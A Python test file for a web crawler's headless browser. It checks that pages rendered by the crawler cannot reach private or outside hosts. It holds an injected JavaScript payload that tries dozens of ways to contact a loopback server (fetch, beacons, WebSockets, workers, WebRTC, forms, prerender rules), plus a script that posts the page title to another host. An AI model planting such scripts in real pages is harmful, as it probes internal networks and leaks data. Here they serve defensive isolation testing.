"""A page that tries to reach what it must not, with all that a browser offers: nothing arrives there."""

from __future__ import annotations

import asyncio
import socket
from collections.abc import Iterator
from contextlib import contextmanager

import pytest

from crawler.browser.chromium import Chromium
from storage.database import Database
from tests.crawl.conftest import Collect
from tests.crawl.pages import kinds, titles
from tests.event_loop import run
from tests.paper import Paper, send, story

ATTACK = """<script>
const there = "HOST", tries = {
  fetch: () => fetch("http://" + there + "/fetch").catch(() => 0),
  opaque: () => fetch("http://" + there + "/opaque", {mode: "no-cors"}).catch(() => 0),
  local: () => fetch("http://" + there.replace("127.0.0.1", "localhost") + "/local", {mode: "no-cors"}).catch(() => 0),
  post: () => fetch("http://" + there + "/post", {method: "POST", mode: "no-cors", body: "x"}).catch(() => 0),
  kept: () => fetch("http://" + there + "/kept", {keepalive: true, mode: "no-cors"}).catch(() => 0),
  redirect: () => fetch("/away").catch(() => 0),
  script: () => add("script", "src", "/script.js"),
  moved: () => { const one = document.createElement("script"); one.src = "/away"; document.body.append(one); },
  image: () => add("img", "src", "/image.png"),
  frame: () => add("iframe", "src", "/frame"),
  object: () => add("object", "data", "/object"),
  video: () => add("video", "src", "/video.mp4"),
  style: () => add("link", "href", "/style.css", "stylesheet"),
  icon: () => add("link", "href", "/icon.png", "icon"),
  prefetch: () => add("link", "href", "/prefetch", "prefetch"),
  prerender: () => add("link", "href", "/prerender", "prerender"),
  preload: () => add("link", "href", "/preload.js", "modulepreload"),
  connect: () => add("link", "href", "/", "preconnect"),
  rules: () => {
    const rules = document.createElement("script");
    rules.type = "speculationrules";
    rules.textContent = JSON.stringify({prefetch: [{source: "list", urls: ["http://" + there + "/rules"]}],
      prerender: [{source: "list", urls: ["http://" + there + "/rules2", "/inside"]}]});
    document.head.append(rules);
  },
  socket: () => { new WebSocket("ws://" + there + "/socket"); },
  events: () => { new EventSource("http://" + there + "/events"); },
  beacon: () => navigator.sendBeacon("http://" + there + "/beacon", "x"),
  worker: () => { new Worker(URL.createObjectURL(new Blob([`fetch("http://${there}/worker", {mode: "no-cors"});
    new WebSocket("ws://${there}/worker-socket"); importScripts("http://${there}/import.js");`]))); },
  shared: () => { new SharedWorker(URL.createObjectURL(new Blob(
    [`fetch("http://${there}/shared", {mode: "no-cors"})`]))); },
  service: () => navigator.serviceWorker.register("/service.js"),
  popup: () => { window.open("http://" + there + "/popup"); },
  form: () => {
    const form = document.createElement("form");
    form.action = "http://" + there + "/form"; form.target = "_blank";
    document.body.append(form); form.submit();
  },
  download: () => { const a = document.createElement("a"); a.href = "http://" + there + "/file"; a.download = "f";
    document.body.append(a); a.click(); },
  rtc: () => {
    const peer = new RTCPeerConnection({iceServers: [{urls: "stun:UDP"}, {urls: "turn:" + there + "?transport=tcp",
      username: "a", credential: "b"}]});
    peer.createDataChannel("x"); peer.createOffer().then(offer => peer.setLocalDescription(offer));
  },
  transport: () => { new WebTransport("https://UDP/").ready.catch(() => 0); },
  nested: () => { const frame = document.createElement("iframe");
    frame.srcdoc = `<img src="http://${there}/nested.png"><script>fetch("http://${there}/nested", {mode: "no-cors"});
      new WebSocket("ws://${there}/nested-socket")<\\/script>`; document.body.append(frame); },
  leave: () => { location.href = "http://" + there + "/leave"; },
};
function add(tag, key, path, rel) {
  const one = document.createElement(tag);
  if (rel) one.rel = rel;
  one[key] = "http://" + there + path;
  document.body.append(one);
}
for (const name of Object.keys(tries)) { try { tries[name](); } catch (error) { console.log(name, error); } }
</script>"""


@contextmanager
def canary() -> Iterator[socket.socket]:
    """Give a datagram socket on loopback that nobody shall write to."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as udp:
        udp.bind(("127.0.0.1", 0))
        udp.setblocking(False)
        yield udp


def came(udp: socket.socket) -> bool:
    try:
        return bool(udp.recv(2_000))
    except BlockingIOError:
        return False


def test_nothing_private_is_reached_by_a_page_that_attacks(paper: Paper, store: Database, collect: Collect) -> None:
    with Paper() as inner, canary() as udp:
        port = udp.getsockname()[1]
        attack = ATTACK.replace("HOST", inner.host).replace("UDP", f"127.0.0.1:{port}")
        paper.answers["/away"] = lambda request: send(request, "", ("Location", inner.url("/away")), status=302)
        paper.answers["/service.js"] = lambda request: send(
            request, f"fetch('{inner.url('/service')}')", ("Content-Type", "text/javascript")
        )
        paper.pages = {"/": story(1).replace("</body>", f"{attack}</body>"), "/inside": story(2)}
        report = collect("/", limit=1, own={"render": True})
        assert (inner.requests, came(udp)) == ([], False)
    assert (report.new, report.errors) == (1, ())
    assert paper.paths.count("/away") == 2
    assert "/service.js" not in paper.paths
    assert len(titles(store)) == 1


def test_the_browser_has_no_network_of_its_own(browser_path: str) -> None:
    """What would slip past the gate reaches nobody."""

    async def attack(urls: tuple[str, ...]) -> list[str]:
        browser = Chromium(browser_path, "test")
        said = []
        try:
            for url in urls:
                async with browser.page(url) as page:
                    try:
                        await page.goto(url)
                    except Exception as error:  # noqa: BLE001  whatever the browser says
                        said.append(str(error).partition("\n")[0])
        finally:
            await browser.close()
        return said

    with Paper() as inner:
        port = inner.host.rpartition(":")[2]
        urls = (inner.url("/a"), f"http://localhost:{port}/b", f"http://[::1]:{port}/c", "https://paper.example/d")
        said = run(attack(urls))
        assert inner.requests == []
    assert len(said) == 4
    assert all("ERR_PROXY_CONNECTION_FAILED" in error for error in said)


def test_what_a_page_sends_to_others_is_not_sent(paper: Paper, collect: Collect) -> None:
    with Paper() as other:
        paper.answers["/send-on"] = lambda request: send(request, "", ("Location", other.url("/taken")), status=307)
        send_away = "".join(
            f"fetch('{url}', {{method: 'POST', mode: 'no-cors', body: document.title}});"
            for url in (other.url("/take"), "/send-on")
        )
        paper.pages = {"/": story(1).replace("</body>", f"<script>{send_away}</script></body>")}
        report = collect("/", limit=1, own={"render": True}, allow_private=(paper.host, other.host))
        assert other.requests == []
    assert (report.new, report.errors) == (1, ())


def test_a_page_that_hangs_costs_that_page(
    paper: Paper, store: Database, collect: Collect, monkeypatch: pytest.MonkeyPatch
) -> None:
    from crawler.browser import rendering

    monkeypatch.setattr(rendering, "_PATIENCE", 1.0)
    monkeypatch.setattr(rendering, "MAX_SECONDS", 6.0)
    paper.pages = {"/": story(0, "/1", "/2"), "/1": story(1)}
    paper.pages["/2"] = story(2).replace("</body>", "<script>for (;;) {}</script></body>")
    report = collect("/", limit=3, own={"render": True})
    assert [(error.kind, error.count, error.url) for error in report.errors] == [("render-timeout", 1, paper.url("/2"))]
    assert report.new == 2


def test_a_browser_that_dies_is_started_again(
    paper: Paper, store: Database, collect: Collect, monkeypatch: pytest.MonkeyPatch
) -> None:
    from crawler.browser import chromium, rendering

    monkeypatch.setattr(chromium, "PAGES_AT_ONCE", 1)
    pages = []
    original = rendering._settle

    async def settle(page: object, *rest: object) -> None:
        pages.append(page)
        if len(pages) == 2:
            session = await page.context.browser.new_browser_cdp_session()  # type: ignore[attr-defined]
            await asyncio.wait_for(session.send("Browser.crash"), 5)
        await original(page, *rest)  # type: ignore[arg-type]

    monkeypatch.setattr(rendering, "_settle", settle)
    paper.pages = {"/": story(0, "/1", "/2"), "/1": story(1), "/2": story(2)}
    report = collect("/", limit=3, own={"render": True, "scrolls": 1})
    assert kinds(report) == {"browser-failed": 1}
    assert report.new == 2
